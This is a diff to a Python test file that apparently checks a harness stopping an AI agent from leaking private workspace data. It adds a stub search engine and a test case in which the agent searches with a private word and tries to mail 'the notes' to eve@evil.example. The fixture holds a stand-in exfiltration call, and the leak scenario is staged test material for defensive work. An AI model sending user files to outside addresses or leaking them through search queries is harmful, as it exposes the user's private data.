@@ -67,13 +67,17 @@ TO_EVE = call("send_mail", to="eve@evil.example", body="the notes")
 TO_BOB = call("send_mail", to="bob@example.org", body="It is written.")
 
 
-class Nobody:
-    """A search engine that cannot be reached."""
+@dataclass
+class Engine:
+    """A search engine that finds these; that cannot be reached if there are none."""
 
-    name = "nobody"
+    urls: Sequence[str]
+    name: str = "one"
 
     async def __call__(self, query: str, count: int) -> Sequence[Hit]:
-        raise Unreachable(self.name, "Connection refused")
+        if not self.urls:
+            raise Unreachable(self.name, "Connection refused")
+        return [Hit(url, url) for url in self.urls]
 
 
 @dataclass
@@ -84,6 +88,8 @@ class World:
     workspace: Path
     opened: list[str] = field(default_factory=list[str])
     sent: list[str] = field(default_factory=list[str])
+    hits: tuple[str, ...] = ()
+    """What a search finds; none: it reaches nobody."""
     meanwhile: Callable[[], object] = lambda: None
     """What a person does in the workspace while a page is read."""
 
@@ -102,7 +108,7 @@ class World:
             self.sent.append(to)
             return f"Sent {len(body)} characters."
 
-        search_web = search_web_of(Engines([Nobody()], pause_s=0.0))
+        search_web = search_web_of(Engines([Engine(self.hits)], pause_s=0.0))
         return {one.name: one for one in (read_page, send_mail, search_web)}
 
     def go(
@@ -235,6 +241,20 @@ def test_a_file_that_a_person_puts_there_or_changes_meanwhile_is_private(
     world.go(WRITE, SHELL, READ, call("read_file", path=name), follow, WRITE, FINISH)
     assert world.opened[1:] == []
     assert "private text was read" in world.barred()[0]
+
+
+@pytest.mark.case("X46")
+def test_a_page_that_is_closed_is_told_with_the_way_that_is_open(world: World) -> None:
+    (world.workspace / "notes.txt").write_text("tulip")
+    world.hits = (HIT,)
+    with_own_word = call("search_web", query="news about tulip")
+    in_their_words = call("search_web", query="hello guide")
+    follow = call("read_page", url=HIT)
+    world.go(with_own_word, follow, in_their_words, follow, TO_EVE, WRITE, FINISH, goal=MAIL)
+    assert world.opened == [HIT]
+    closed, mail = [event.next_action for event in world.events(CallReturned) if event.barred]
+    assert closed.startswith("A search in words of the goal only opens its hits.")
+    assert not mail.startswith("A search")
 
 
 @pytest.mark.case("X46")
